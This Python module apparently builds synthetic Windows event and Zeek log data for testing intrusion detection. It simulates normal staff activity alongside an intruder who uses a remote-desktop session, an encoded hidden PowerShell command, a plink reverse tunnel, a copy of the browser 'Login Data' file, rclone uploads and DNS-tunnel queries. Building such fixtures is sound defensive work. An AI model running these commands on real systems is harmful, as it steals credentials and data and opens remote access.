"""Channels of a file server and a workstation behind a network sensor: reading, packing, and four ways out.

Record shapes: Windows security auditing events 4624, 4688, 5140, 5145; Sysmon 1, 3, 11; Zeek's conn.log and dns.log: a
query is in both, under one uid (docs.zeek.org/en/master/logs/conn.html and dns.html).
"""

from __future__ import annotations

import base64
import datetime as dt
import json
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from support.impact_grid.organisation import DAYS, FIRST_DAY, Kept, work_time
from support.impact_grid.rows import Rows, Writer
from support.impact_grid.truth import Act, ActKind
from vigilia.demo.chance import Chance
from vigilia.demo.record import Record
from vigilia.demo.windows_events import Logon, connected, logged_off, logged_on, opened, started, wrote
from vigilia.demo.windows_intruder import ENCODED_SEARCH
from vigilia.demo.windows_record import FILE_SERVER, WORKSTATION, WindowsEvent

__all__ = ["CHANNELS", "LOGS", "background", "entry", "where"]

LOGS = ("windows-FS01", "windows-WS07", "zeek-conn", "zeek-dns")
_FS, _WS, _CONN, _DNS = LOGS
Query = dict[str, Any]
_WORKSTATIONS = ("192.0.2.37", "192.0.2.38", "192.0.2.39")
_WS_ADDRESS = "192.0.2.37"
_OUTSIDE = "203.0.113.150"
_CONTROL = "203.0.113.151"
_UPLOAD = "198.51.100.200"
_ACCOUNTS = ("mirela.oduya", "idris.lund", "paloma.restrepo")
_CMD = "C:\\Windows\\System32\\cmd.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_ENCODED = base64.b64encode(ENCODED_SEARCH.encode("utf-16-le")).decode()
_BROWSER = "C:\\Users\\mirela.oduya\\AppData\\Local\\Google\\Chrome\\User Data\\Default"
_ARCHIVE = "C:\\Users\\Public\\Libraries"


def where(kept: Kept) -> list[str]:
    """Return the locators of a kind of data on the file server."""
    return [f"share:\\\\FS01\\{kept.folder}"]


def background(rows: Rows, classes: Sequence[Kept]) -> None:
    """Four weeks of work: shares opened from three workstations, programs started, connections and names resolved."""
    chance = Chance(rows.chance.whole(0, 1 << 30), "windows staff")
    for offset in range(DAYS):
        day = FIRST_DAY + dt.timedelta(days=offset)
        busy = day.weekday() < 5
        for account, address in zip(_ACCOUNTS, _WORKSTATIONS, strict=True) if busy else ():
            at = work_time(chance, day)
            logon = Logon.new(chance, FILE_SERVER, account, address, 3)
            _events(rows, _FS, logged_on(logon, at, chance))
            kept = chance.pick(classes)
            _events(rows, _FS, opened(logon, chance.later(at, 1, 9), chance, kept.folder, chance.some(kept.files, 2)))
            _events(rows, _FS, [logged_off(logon, chance.later(at, 900, 1800))])
        _machine_day(rows, chance, day, busy=busy)
        for _ in range(24 if busy else 12):
            at = chance.moment(day, 0, 24)
            address = chance.pick(_WORKSTATIONS)
            rows.add(_CONN, _connection(chance, at, address, "198.51.100.9", chance.whole(900, 60_000)), kind="conn")
            name = chance.pick(["www.lanternfold.example", "mail.lanternfold.example", "news.example", "time.example"])
            _resolved(rows, _query(chance, at, address, name, "A"))


def _machine_day(rows: Rows, chance: Chance, day: dt.date, *, busy: bool) -> None:
    """Scheduled services on both machines, so that neither log is ever silent; somebody at WS07 on weekdays."""
    for computer, log in ((FILE_SERVER, _FS), (WORKSTATION, _WS)):
        service = Logon(computer, f"{computer[:4]}$", "-", "0x3e7", 5)
        for hour in (1, 7, 13, 19):
            at = chance.moment(day, hour, hour + 1)
            _events(rows, log, logged_on(service, at, chance))
            task = "C:\\Windows\\System32\\taskhostw.exe"
            _events(
                rows,
                log,
                started(service, chance.later(at, 1, 5), chance, task, task, "C:\\Windows\\System32\\svchost.exe"),
            )
    if busy:
        at = work_time(chance, day)
        logon = Logon.new(chance, WORKSTATION, _ACCOUNTS[0], "127.0.0.1", 2)
        browser = "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
        _events(rows, _WS, [connected(logon, chance.later(at, 90, 400), chance, browser, "198.51.100.9", 443)])
        _events(rows, _WS, logged_on(logon, at, chance))
        word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
        _events(
            rows, _WS, started(logon, chance.later(at, 10, 50), chance, word, f'"{word}"', "C:\\Windows\\explorer.exe")
        )


def _events(
    rows: Rows, log: str, events: Iterable[WindowsEvent], act: Act | None = None, part: str = "act", only: int = 0
) -> None:
    """Add events; of those that show an act, the ones with the number `only` (0: all)."""
    for event in events:
        shows = act if act is not None and (not only or event.code == only) else None
        rows.add(log, event, act=shows, part=part, kind=str(event.code), entity=event.computer)


def _connection(chance: Chance, at: dt.datetime, source: str, target: str, sent: int, seconds: float = 2.0) -> Record:
    document = {
        "_path": "conn", "ts": f"{at:%Y-%m-%dT%H:%M:%S.%f}Z", "uid": f"C{chance.digits(16)}",
        "id.orig_h": source, "id.orig_p": chance.whole(49200, 65000), "id.resp_h": target, "id.resp_p": 443,
        "proto": "tcp", "service": "ssl", "duration": seconds, "orig_bytes": sent,
        "resp_bytes": chance.whole(2_000, 90_000), "conn_state": "SF", "local_orig": True, "local_resp": False,
        "orig_pkts": sent // 1300 + 4, "orig_ip_bytes": sent + 900,
    }  # fmt: skip
    return Record(at, json.dumps(document, separators=(",", ":")))


def _query(chance: Chance, at: dt.datetime, source: str, name: str, kind: str) -> Query:
    return {
        "_path": "dns", "ts": f"{at:%Y-%m-%dT%H:%M:%S.%f}Z", "uid": f"C{chance.digits(16)}", "id.orig_h": source,
        "id.orig_p": chance.whole(49200, 65000), "id.resp_h": "192.0.2.53", "id.resp_p": 53, "proto": "udp",
        "query": name, "qclass_name": "C_INTERNET", "qtype_name": kind, "rcode_name": "NOERROR", "rejected": False,
    }  # fmt: skip


def _resolved(rows: Rows, query: Query, act: Act | None = None, part: str = "act") -> None:
    """Add a query to dns.log and its connection, under the same uid, to conn.log, as Zeek does."""
    at = dt.datetime.fromisoformat(query["ts"])
    asked = len(query["query"]) + 18
    connection = {
        name: query[name] for name in ("ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto")
    }
    connection |= {
        "_path": "conn", "service": "dns", "duration": 0.02, "orig_bytes": asked, "resp_bytes": asked + 16,
        "conn_state": "SF", "local_orig": True, "local_resp": True, "orig_pkts": 1, "orig_ip_bytes": asked + 28,
    }  # fmt: skip
    rows.add(_DNS, Record(at, json.dumps(query, separators=(",", ":"))), act=act, part=part, kind="dns")
    rows.add(_CONN, Record(at, json.dumps(connection, separators=(",", ":"))), kind="conn")


def entry(rows: Rows, times: Sequence[dt.datetime]) -> None:
    """The intruder's presence, plain to see: remote desktop from outside at night, and an encoded search."""
    chance = Chance(rows.chance.whole(0, 1 << 30), "windows entry")
    for number, at in enumerate(times):
        logon = _remote(rows, chance, at)
        tools: tuple[tuple[str, str], ...] = (
            ("C:\\Windows\\System32\\whoami.exe", "whoami /groups"),
            ("C:\\Windows\\System32\\net.exe", "net view \\\\FS01"),
            (_POWERSHELL, f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {_ENCODED}"),
            (f"{_ARCHIVE}\\plink.exe", f"{_ARCHIVE}\\plink.exe -N -R 4444:127.0.0.1:3389 -batch tunnel@{_CONTROL}"),
            ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin create shadow /for=C:"),
            (
                _CMD,
                f'cmd.exe /c copy "{_BROWSER}\\Login Data" {_ARCHIVE}',
            ),
        )
        for step, (image, command) in enumerate(tools):
            moment = at + dt.timedelta(seconds=60 + 40 * step)
            _events(rows, _WS, started(logon, moment, chance, image, command, _CMD))
        if number == 0:
            script = [wrote(logon, chance.later(at, 300, 400), chance, _POWERSHELL, f"{_ARCHIVE}\\idx.ps1")]
            _events(rows, _WS, script)
        beacon = chance.later(at, 420, 500)
        _events(rows, _WS, [connected(logon, beacon, chance, _POWERSHELL, _CONTROL, 443)])
        rows.add(_CONN, _connection(chance, beacon, _WS_ADDRESS, _CONTROL, chance.whole(1_500, 9_000)), kind="conn")


def _remote(rows: Rows, chance: Chance, at: dt.datetime) -> Logon:
    """Return the intruder's remote desktop session of this night, or the owner's session at the keyboard."""
    begun = rows.sessions.get(at.date())
    if isinstance(begun, Logon) and not rows.by_owner:
        return begun
    address, kind = ("127.0.0.1", 2) if rows.by_owner else (_OUTSIDE, 10)
    logon = Logon.new(chance, WORKSTATION, _ACCOUNTS[0], address, kind, intruder=not rows.by_owner)
    _events(rows, _WS, logged_on(logon, at, chance))
    _events(rows, _WS, [logged_off(logon, at + dt.timedelta(hours=3))])
    if not rows.by_owner:
        rows.sessions[at.date()] = logon
    return logon


def _read(
    rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, act: Act, part: str, address: str = _WS_ADDRESS
) -> None:
    """The share opened over the network with the account that was stolen."""
    logon = Logon.new(chance, FILE_SERVER, _ACCOUNTS[0], address, 3, intruder=True)
    _events(rows, _FS, logged_on(logon, at, chance))
    _events(rows, _FS, opened(logon, chance.later(at, 1, 3), chance, kept.folder, list(act.objects)), act, part, 5145)
    _events(rows, _FS, [logged_off(logon, chance.later(at, 700, 900))])


def _share_read(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind) -> None:
    """Left: read straight from a machine outside; read: from the workstation inside."""
    act = rows.act(kind, kept.id, "share-read", at, kept.files)
    if kind != "left" or rows.by_owner:
        _remote(rows, chance, at - dt.timedelta(seconds=90))
    _read(rows, chance, kept, at, act, "act", _OUTSIDE if kind == "left" and not rows.by_owner else _WS_ADDRESS)


def _packed(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, act: Act, part: str) -> Logon:
    """Read from the workstation and packed there; the command line names the share."""
    logon = _remote(rows, chance, at - dt.timedelta(seconds=90))
    _read(rows, chance, kept, at, act, part)
    command = f'"C:\\Program Files\\7-Zip\\7z.exe" a {_ARCHIVE}\\{kept.id}.7z "\\\\FS01\\{kept.folder}\\*" -r'
    moment = at + dt.timedelta(seconds=900)
    _events(
        rows, _WS, started(logon, moment, chance, "C:\\Program Files\\7-Zip\\7z.exe", command, _CMD), act, part, 4688
    )
    _events(
        rows,
        _WS,
        [
            wrote(
                logon,
                chance.later(moment, 30, 90),
                chance,
                "C:\\Program Files\\7-Zip\\7z.exe",
                f"{_ARCHIVE}\\{kept.id}.7z",
            )
        ],
    )
    return logon


def _staging(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind) -> None:
    act = rows.act("staged" if kind in ("left", "staged") else "read", kept.id, "archive-staging", at, kept.files)
    if act.kind == "read":
        _read(rows, chance, kept, at, act, "act")
    else:
        _packed(rows, chance, kept, at, act, "act")


def _before_egress(
    rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind, channel: str
) -> tuple[Act, Logon] | None:
    """What goes before all ways out; None where nothing is to leave."""
    if kind == "left":
        act = rows.act("left", kept.id, channel, at + dt.timedelta(seconds=1500), kept.files)
        # What was packed left too, by another channel: its own records end with the packing.
        rows.act("hidden", kept.id, "archive-staging", act.at, kept.files)
        return act, _packed(rows, chance, kept, at, act, "packed")
    if kind == "staged":
        _staging(rows, chance, kept, at, "staged")
    else:
        _share_read(rows, chance, kept, at, "read")
    return None


def _web_upload(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind) -> None:
    begun = _before_egress(rows, chance, kept, at, kind, "web-upload")
    if begun is None:
        return
    act, logon = begun
    command = f"C:\\Users\\Public\\Libraries\\rclone.exe copy {_ARCHIVE}\\{kept.id}.7z store:in"
    _events(rows, _WS, started(logon, act.at, chance, "C:\\Users\\Public\\Libraries\\rclone.exe", command, _CMD))
    flow = _connection(
        chance, chance.later(act.at, 2, 9), _WS_ADDRESS, _UPLOAD, chance.whole(80_000_000, 300_000_000), 600.0
    )
    rows.add(_CONN, flow, act=act, part="egress", kind="conn")


def _control(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind) -> None:
    begun = _before_egress(rows, chance, kept, at, kind, "c2-channel")
    if begun is None:
        return
    act, logon = begun
    _events(rows, _WS, [connected(logon, act.at, chance, _POWERSHELL, _CONTROL, 443)])
    flow = _connection(
        chance, chance.later(act.at, 0, 2), _WS_ADDRESS, _CONTROL, chance.whole(80_000_000, 300_000_000), 900.0
    )
    rows.add(_CONN, flow, act=act, part="egress", kind="conn")


def _names(rows: Rows, chance: Chance, kept: Kept, at: dt.datetime, kind: ActKind) -> None:
    begun = _before_egress(rows, chance, kept, at, kind, "dns")
    if begun is None:
        return
    act, _ = begun
    for number in range(160):
        name = f"{chance.digits(60)}.{chance.digits(58)}.t.cdn-sync.example"
        query = _query(chance, act.at + dt.timedelta(seconds=3 * number), _WS_ADDRESS, name, "TXT")
        _resolved(rows, query, act, "egress")


CHANNELS: Mapping[str, Writer] = {
    "share-read": _share_read,
    "archive-staging": _staging,
    "web-upload": _web_upload,
    "c2-channel": _control,
    "dns": _names,
}
